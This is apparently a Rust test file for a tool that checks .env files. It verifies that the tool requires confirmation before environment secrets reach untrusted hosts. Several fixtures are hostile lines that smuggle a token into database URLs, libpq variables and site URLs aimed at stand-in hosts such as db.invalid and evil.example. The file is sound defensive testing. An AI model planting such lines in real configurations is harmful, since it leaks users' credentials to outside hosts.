//! A `.env` file that puts variables of the process environment into a URL.

use crate::support::Folder;
use crate::support::foreign::Foreign;

use super::KEY;

/// A variable of the process environment that must not leak.
const CANARY: &str = "hf_Canary0123456789Borrowed";

/// A folder with this `.env`, whose commands have a token in their environment.
fn folder(env: &str) -> Folder {
    let mut folder = Folder::with_env(env);
    folder.variable("HF_TOKEN", CANARY);
    folder
}

#[test]
fn process_variables_in_a_database_url_need_confirmation() {
    for (env, line) in [
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid/people\n",
            1,
        ),
        (
            "DATABASE_URL=postgresql://x:${MISSING:-y}${HF_TOKEN:-z}@db.invalid/people\n",
            1,
        ),
        // Through another line, also one that the process environment overrides.
        (
            "A=${HF_TOKEN}\nB=x${A}\nNEON_DATABASE_URL=postgresql://${B}@db.invalid/people\n",
            3,
        ),
        (
            "HF_TOKEN=mine\nDATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid/people\n",
            2,
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@localhost/people?hostaddr=203.0.113.7\n",
            1,
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@localhost/people?host=localhost&host=db.invalid:6543\n",
            1,
        ),
        // What libpq sends beside the URL. The line is the one that names the host.
        (
            "DATABASE_URL=postgresql://x:y@db.invalid/people\nPGAPPNAME=${HF_TOKEN}\n",
            1,
        ),
        (
            "DATABASE_URL=postgresql://x:y@db.invalid/people\nPGOPTIONS=-cx=${HF_TOKEN}\n",
            1,
        ),
        (
            "PGUSER=${HF_TOKEN}\nDATABASE_URL=postgresql://db.invalid/people\n",
            2,
        ),
        (
            "PGPASSWORD=${HF_TOKEN}\nDATABASE_URL=postgresql://x@db.invalid/people\n",
            2,
        ),
        (
            "PGDATABASE=${HF_TOKEN}\nDATABASE_URL=postgresql://x:y@db.invalid\n",
            2,
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@/people\nPGHOST=db.invalid\n",
            2,
        ),
    ] {
        let folder = folder(env);
        for command in [
            &["verify-connection"][..],
            &["list-users"],
            &["init-db", "--dry-run"],
            &["doctor", "--only", "database"],
        ] {
            let run = folder
                .run(command.iter().chain(&["--json"]).copied())
                .code(3);
            assert_eq!(run.ids("fail"), ["trust.unconfirmed"], "{env}: {run:#?}");
            assert_eq!(run.json()["findings"][0]["source"]["line"], line, "{env}");
            assert!(!format!("{run:?}").contains(CANARY), "{run:?}");
        }
    }
}

#[test]
fn a_database_url_without_process_variables_needs_no_confirmation() {
    for (env, trusted) in [
        // The usual parts, all in one file.
        (
            "DB_USER=anna\nDB_PASSWORD=pw\nDATABASE_URL=postgresql://${DB_USER}:${DB_PASSWORD}@db.invalid/people\n",
            None,
        ),
        (
            "DATABASE_URL=postgresql://x:${MISSING:-y}@db.invalid/people\n",
            None,
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid/people\n",
            Some("db.invalid"),
        ),
        (
            "DATABASE_URL=postgresql://x:${HF_TOKEN}@db.invalid:6543/people\n",
            Some("db.invalid:6543"),
        ),
    ] {
        let folder = folder(env);
        let option = trusted.map(|host| ["--trust-host", host]);
        let arguments = ["verify-connection", "--json", "--timeout", "5s"];
        let run = folder
            .run(arguments.into_iter().chain(option.into_iter().flatten()))
            .code(5);
        assert_ne!(run.ids("fail"), ["trust.unconfirmed"], "{env}: {run:#?}");
    }
    // A database on this machine gets it, such as one in a container.
    let folder = folder("DATABASE_URL=postgresql://x:${HF_TOKEN}@127.0.0.1:1/people\n");
    let _ = folder.run(["verify-connection", "--json"]).code(5);
}

#[test]
fn a_file_does_not_choose_the_host_for_your_own_connection_string() {
    const OWN: &str = "postgresql://x:canary-of-mine@db.example.org/people";
    const NO_HOST: &str = "postgresql://x:canary-of-mine@/people";
    for (env, url) in [
        ("PGHOST=db.invalid\n", NO_HOST),
        ("PGHOST=db.invalid\nPGSSLMODE=disable\n", NO_HOST),
        ("PGHOSTADDR=203.0.113.7\n", NO_HOST),
        ("PGHOSTADDR=203.0.113.7\n", OWN),
    ] {
        let mut folder = Folder::with_env(env);
        folder.variable("DATABASE_URL", url);
        let run = folder.run(["verify-connection", "--json"]).code(3);
        assert_eq!(run.ids("fail"), ["trust.unconfirmed"], "{env}: {run:#?}");
        assert!(!format!("{run:?}").contains("canary"), "{run:?}");
    }
    // Your own variables name the host of any connection string.
    let mut folder = Folder::with_env("PGHOST=db.invalid\n");
    folder
        .variable("PGHOST", "127.0.0.1")
        .variable("PGPORT", "1")
        .variable("DATABASE_URL", NO_HOST);
    let _ = folder.run(["verify-connection", "--json"]).code(5);
}

#[test]
#[cfg(unix)]
fn the_password_file_serves_the_hosts_that_it_names() {
    use std::os::unix::fs::PermissionsExt;
    for (line, url, is_trusted) in [
        ("*:*:*:*:canary", "postgresql://x@db.invalid/people", false),
        (
            "*:*:people:x:canary",
            "postgresql://x@db.invalid/people",
            false,
        ),
        (
            "db.invalid:*:*:*:canary",
            "postgresql://x@db.invalid/people?hostaddr=203.0.113.7",
            false,
        ),
        (
            "db.invalid:*:*:*:canary",
            "postgresql://x@db.invalid/people",
            true,
        ),
        // A password of the file itself.
        ("*:*:*:*:canary", "postgresql://x:y@db.invalid/people", true),
        ("*:*:*:*:canary", "postgresql://x@127.0.0.1:1/people", true),
    ] {
        let mut folder = Folder::with_env(&format!("DATABASE_URL={url}\n"));
        let file = folder.write("home/mine", format!("{line}\n"));
        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
        folder.variable("PGPASSFILE", &file.display().to_string());
        let run = folder.run(["verify-connection", "--json", "--timeout", "5s"]);
        let run = run.code(if is_trusted { 5 } else { 3 });
        let is_refused = run.ids("fail") == ["trust.unconfirmed"];
        assert_eq!(is_refused, !is_trusted, "{line} {url}: {run:#?}");
        assert!(!format!("{run:?}").contains("canary"), "{run:?}");
    }
}

#[test]
fn a_site_url_must_not_contain_process_variables() {
    let foreign = Foreign::start();
    for (url, id) in [
        ("https://${HF_TOKEN}.evil.example", "trust.borrowed-host"),
        ("https://evil.example/${HF_TOKEN}", "trust.unconfirmed"),
    ] {
        for (file, name) in [
            (".env", "FRONTEND_URL"),
            (".env.production", "FRONTEND_URL"),
            (".env", "API_BASE_URL"),
        ] {
            let mut folder = folder("");
            folder.write(file, format!("JWT_SECRET_KEY={KEY}\n{name}={url}\n"));
            foreign.lead(&mut folder);
            let command = ["check-env", "--online", "--only", "live", "--json"];
            let run = folder.run(command).code(3);
            assert_eq!(run.ids("fail"), [id], "{run:#?}");
            let named = id == "trust.unconfirmed";
            let text = format!("{run:?}").to_lowercase();
            assert!(!text.contains(&CANARY.to_lowercase()), "{text}");
            assert_eq!(text.contains("evil.example"), named, "{text}");
            assert_eq!(foreign.take(), "", "{url}");
            let host = format!("{}.evil.example", CANARY.to_lowercase());
            let host = if named { "evil.example" } else { &host };
            // The foreign host speaks TLS only, so the question over http waits to the end.
            let trusting = ["--trust-host", host, "--timeout", "2s"];
            let _ = folder.run(command.into_iter().chain(trusting));
            assert!(foreign.take().contains("evil.example"), "{url}");
        }
    }
}
